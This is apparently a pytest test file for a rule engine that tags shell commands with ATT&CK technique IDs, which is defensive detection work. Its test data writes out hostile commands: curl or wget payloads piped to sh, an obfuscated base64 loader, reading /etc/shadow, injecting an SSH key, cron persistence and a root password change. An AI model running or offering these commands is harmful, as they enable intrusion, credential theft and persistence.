"""Lines that other taggers miss or misread, with the techniques that a person would name."""

from __future__ import annotations

from functools import cache

import pytest

from decnet.ttp.engine import RuleEngine
from decnet.ttp.predict import session_techniques
from decnet.ttp.store.filesystem import load_pack

FLOOR = 0.6

SHOWS = {
    "wget host/x": {"T1105"},
    'cu""rl -s h|s$@h': {"T1105", "T1059.004"},
    "/bin/busybox wget http://203.0.113.7/m.sh": {"T1105"},
    "echo d2dldCBodHRwOi8vMTAuMC4wLjEveA== | base64 -d | sh": {"T1105", "T1140", "T1059.004"},
    r'$(echo -e "\x77\x67\x65\x74") http://203.0.113.7/x': {"T1105"},
    "cd /tmp;(wget a||curl -O a)&&chmod +x a&&./a": {"T1105", "T1222.002", "T1059.004"},
    "sudo -u root sh -c 'cat /etc/shadow'": {"T1003.008"},
    "for i in 1 2; do nc -z 10.0.0.$i 22; done": {"T1046"},
    "ls; whoami": {"T1033", "T1083"},
    "curl http://203.0.113.7/x | sh": {"T1105", "T1059.004"},
    "echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys": {"T1098.004"},
    '(crontab -l; echo "* * * * * /tmp/x") | crontab -': {"T1053.003"},
    "echo root:secret | chpasswd": {"T1098"},
    "iptables -F": {"T1686"},
    "cat /proc/cpuinfo": {"T1082"},
}

SHOWS_NONE_OF = {
    'echo "cat /etc/shadow"': {"T1003.008"},
    "# rm -rf /": {"T1485", "T1070.004"},
    "grep wget notes.txt": {"T1105"},
    "last resort text": {"T1033", "T1087.001"},
    "who cares": {"T1033", "T1087.001"},
}


@cache
def engine() -> RuleEngine:
    return RuleEngine(load_pack())


@pytest.mark.parametrize(("line", "techniques"), SHOWS.items())
def test_a_line_shows_what_a_person_would_name(line: str, techniques: set[str]) -> None:
    assert techniques <= set(session_techniques(engine(), line, FLOOR))


@pytest.mark.parametrize(("line", "techniques"), SHOWS_NONE_OF.items())
def test_a_line_that_only_looks_like_it_shows_none_of_them(line: str, techniques: set[str]) -> None:
    assert not techniques & set(session_techniques(engine(), line, 0.0))
